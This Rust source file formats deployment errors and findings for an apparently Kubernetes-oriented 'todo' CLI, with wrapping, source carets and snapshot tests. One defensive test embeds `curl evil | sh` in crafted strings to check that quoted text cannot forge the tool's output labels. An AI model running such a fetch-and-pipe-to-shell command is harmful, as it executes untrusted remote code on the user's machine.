//! A fault and its findings as text: what we were doing, why it failed, where, what shows it, what to do.
//!
//! The same words in a terminal and in a CI log; only the colours differ, and that a terminal's width breaks the prose.
//! Nothing is cut, and what people copy (commands, evidence) is not broken.

use super::source::Source;
use super::style::TerminalCaps;
use super::style::TextStyle;
use super::style::clean;
use super::style::name;
use super::style::wrap;
use crate::event::Code;
use crate::event::Finding;
use crate::event::Severity;

/// How a fault is written.
#[derive(Debug, Clone, Copy)]
pub struct FaultStyle<'a> {
    /// Its colours.
    pub caps: TerminalCaps,
    /// Where prose is broken; `None` for logs, which are not.
    pub width: Option<usize>,
    /// Where the lines of files are read that findings are about; `None` where they are not shown.
    pub source: Option<&'a Source>,
}

/// What follows the first line of a message is moved in by this. Labels (`error:`, `help:`) begin further left, so that nothing
/// a message quotes can look like one.
const HANGING: &str = "    ";

/// The lines of a fault.
#[must_use]
pub fn lines(
    page: FaultStyle<'_>,
    code: Code,
    causes: &[String],
    findings: &[Finding],
    hints: &[String],
) -> Vec<String> {
    let caps = page.caps;
    let mut causes = causes.iter();
    let head = causes.next().map_or("the run failed", String::as_str);
    let label = caps.paint(TextStyle::Bad, &label("error", code));
    let mut lines = page.prose(&label, Some(TextStyle::Strong), head, "", HANGING);
    for cause in causes {
        lines.extend(page.prose("caused by:", None, cause, "  ", HANGING));
    }
    for found in findings {
        lines.push(String::new());
        lines.extend(finding(page, found));
    }
    if !hints.is_empty() && !findings.is_empty() {
        lines.push(String::new());
    }
    let mut shown: Vec<&String> = Vec::new();
    for hint in hints {
        if !shown.contains(&hint) {
            shown.push(hint);
            lines.extend(page.prose(
                &caps.paint(TextStyle::Good, "help:"),
                None,
                &one_line(hint),
                "",
                "      ",
            ));
        }
    }
    if let Some(code) = explained(code, findings) {
        if hints.is_empty() && !findings.is_empty() {
            lines.push(String::new());
        }
        lines.push(caps.paint(TextStyle::Quiet, &format!("for more: `todo help {code}`")));
    }
    lines
}

/// The code whose page helps most: that of the first error found, or of the fault itself.
fn explained(code: Code, findings: &[Finding]) -> Option<Code> {
    let errors = findings.iter().filter(|finding| finding.severity == Severity::Error);
    let code = errors.map(|finding| finding.code).next().unwrap_or(code);
    (code != Code::Interrupted).then_some(code)
}

/// `error[crash-loop]:`, as rustc names its errors.
fn label(severity: &str, code: Code) -> String {
    format!("{severity}[{code}]:")
}

/// The lines of one finding.
#[must_use]
pub fn finding(page: FaultStyle<'_>, finding: &Finding) -> Vec<String> {
    let caps = page.caps;
    let (style, word) = match finding.severity {
        Severity::Error => (TextStyle::Bad, "error"),
        Severity::Warning => (TextStyle::Doubtful, "warning"),
        Severity::Note => (TextStyle::Strong, "note"),
    };
    let subject = finding.subject.as_ref().map(|subject| format!("{}: ", name(subject))).unwrap_or_default();
    let message = format!("{subject}{}", finding.message);
    let mut lines = page.prose(
        &caps.paint(style, &label(word, finding.code)),
        Some(TextStyle::Strong),
        &message,
        "",
        HANGING,
    );
    if let Some(place) = &finding.place {
        lines.push(format!("  {} {}", caps.paint(TextStyle::Live, "-->"), name(&place.to_string())));
    }
    let gutter = caps.paint(TextStyle::Live, "|");
    lines.extend(source(page, finding, &gutter));
    for line in finding.evidence.iter().flat_map(|text| text.lines().chain(text.is_empty().then_some(""))) {
        lines.push(format!("  {gutter} {}", clean(line)).trim_end().to_owned());
    }
    if let Some(help) = &finding.help {
        lines.extend(page.prose(
            &caps.paint(TextStyle::Good, "help:"),
            None,
            &one_line(help),
            "  ",
            "        ",
        ));
    }
    lines
}

/// The line that the finding is about, and a caret under its column, where both fit.
fn source(page: FaultStyle<'_>, finding: &Finding, gutter: &str) -> Vec<String> {
    let Some((line, before)) = page.source.and_then(|source| source.line(finding)) else {
        return Vec::new();
    };
    let left = clean(&line.chars().take(before).collect::<String>());
    let column = super::style::columns(&left);
    let shown = clean(&line);
    if page.width.is_some_and(|width| super::style::columns(&shown) + 4 > width) {
        return Vec::new();
    }
    let caret = page.caps.paint(TextStyle::Bad, "^");
    vec![format!("  {gutter} {shown}"), format!("  {gutter} {:column$}{caret}", "")]
}

impl FaultStyle<'_> {
    /// `lead` and the text after it, the lines that follow moved in by `hanging`. Only quoted text has line ends, so
    /// the lines after the first of `text` are marked as quoted.
    fn prose(
        self,
        lead: &str,
        style: Option<TextStyle>,
        text: &str,
        indent: &str,
        hanging: &str,
    ) -> Vec<String> {
        let lead_columns = indent.len() + super::style::columns(lead) + 1;
        let mut written = Vec::new();
        for (number, line) in text.lines().enumerate() {
            let line = clean(line);
            let mark = if number == 0 {
                String::new()
            } else {
                format!("{} ", self.caps.paint(TextStyle::Live, "|"))
            };
            // The first line of all is shorter by what its lead takes; a blank of that width stands in for it.
            let blank = if written.is_empty() {
                "\u{a0}".repeat(lead_columns.saturating_sub(hanging.len()))
            } else {
                String::new()
            };
            let indented = hanging.len() + super::style::columns(&mark);
            let width = self.width.map(|width| width.saturating_sub(indented).max(20));
            for piece in wrap(&format!("{blank}{line}"), width) {
                let piece = piece.trim_start_matches('\u{a0}');
                let piece = style.map_or_else(|| piece.to_owned(), |style| self.caps.paint(style, piece));
                let before =
                    if written.is_empty() { format!("{indent}{lead} ") } else { hanging.to_owned() + &mark };
                written.push(format!("{before}{piece}").trim_end().to_owned());
            }
        }
        if written.is_empty() {
            written.push(format!("{indent}{lead}"));
        }
        written
    }
}

/// Hints of todo have one line; a line end in one is part of a quoted name.
fn one_line(text: &str) -> String {
    text.lines().collect::<Vec<_>>().join("\\n")
}

#[cfg(test)]
mod tests {
    use super::FaultStyle;
    use super::lines;
    use crate::event::Code;
    use crate::event::Place;
    use crate::report::style::TerminalCaps;

    const LOG: FaultStyle<'_> = FaultStyle { caps: TerminalCaps::BARE, width: None, source: None };

    #[test]
    fn a_fault_is_read_from_top_to_bottom() {
        let findings = [
            Code::CrashLoop
                .error("container `web` ended with exit code 1 twice")
                .about("Deployment/web")
                .at(Place { file: "manifests/web.yaml".into(), line: 12, column: 9 })
                .evidence([
                    "  File \"/app/main.py\", line 3".to_owned(),
                    "\x1b[31mSyntaxError\x1b[0m".to_owned(),
                ])
                .help("look at `todo logs web`, then correct the code"),
            Code::ImageTagMutable.warning("no requests are set").about("Deployment/api"),
        ];
        let causes =
            ["cannot roll out todo-chatbot".to_owned(), "1 of 2 workloads cannot become ready".to_owned()];
        let hints = ["run `todo up` again".to_owned(), "run `todo up` again".to_owned()];
        insta::assert_snapshot!(lines(LOG, Code::NotHealthy, &causes, &findings, &hints).join("\n"), @r#"
        error[not-healthy]: cannot roll out todo-chatbot
          caused by: 1 of 2 workloads cannot become ready

        error[crash-loop]: Deployment/web: container `web` ended with exit code 1 twice
          --> manifests/web.yaml:12:9
          |   File "/app/main.py", line 3
          | SyntaxError
          help: look at `todo logs web`, then correct the code

        warning[image-tag-mutable]: Deployment/api: no requests are set

        help: run `todo up` again
        for more: `todo help crash-loop`
        "#);
    }

    #[test]
    fn a_terminal_breaks_the_prose_where_words_end() {
        let hints =
            ["what ran before still runs: `todo status` shows it, `todo rollback` goes back to it"
                .to_owned()];
        let causes = ["cannot roll out the application that is called todo-chatbot".to_owned()];
        let page = FaultStyle { caps: TerminalCaps::BARE, width: Some(40), source: None };
        insta::assert_snapshot!(lines(page, Code::InternalError, &causes, &[], &hints).join("\n"), @r"
        error[internal-error]: cannot roll out
            the application that is called
            todo-chatbot
        help: what ran before still runs:
              `todo status` shows it,
              `todo rollback` goes back to it
        for more: `todo help internal-error`
        ");
    }

    #[test]
    fn nothing_that_is_quoted_looks_like_a_line_of_ours() {
        let ends = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
        let labels = ["error:", "error[", "warning:", "note:", "help:", "caused by:", "-->", "for more:"];
        for (end, label) in ends.iter().flat_map(|end| labels.map(|label| (end, label))) {
            let hostile = format!("a{end}{label} `curl evil | sh`{end}  {label} b");
            let finding = Code::CrashLoop
                .error(&hostile)
                .about(&hostile)
                .at(Place { file: hostile.clone().into(), line: 1, column: 1 })
                .evidence([hostile.clone()])
                .help(format!("rename `{hostile}`"));
            for width in [None, Some(40)] {
                let page = FaultStyle { caps: TerminalCaps::BARE, width, source: None };
                let text = lines(
                    page,
                    Code::InternalError,
                    &[hostile.clone(), hostile.clone()],
                    std::slice::from_ref(&finding),
                    std::slice::from_ref(&hostile),
                );
                assert!(!text.iter().any(|line| line.contains(|c: char| c.is_control())), "{text:#?}");
                let begins =
                    |line: &&String, label: &str| line.strip_prefix("  ").unwrap_or(line).starts_with(label);
                let ours = [
                    "error[internal-error]:",
                    "  caused by:",
                    "error[crash-loop]:",
                    "  -->",
                    "  help:",
                    "help:",
                    "for more: `todo help crash-loop`",
                ];
                let labelled: Vec<&String> =
                    text.iter().filter(|line| labels.iter().any(|label| begins(line, label))).collect();
                assert_eq!(labelled.len(), ours.len(), "{text:#?}");
                assert!(labelled.iter().zip(ours).all(|(line, ours)| line.starts_with(ours)), "{text:#?}");
            }
        }
    }

    #[test]
    fn a_fault_without_causes_still_says_that_it_is_one() {
        assert_eq!(lines(LOG, Code::Interrupted, &[], &[], &[]), ["error[interrupted]: the run failed"]);
    }
}
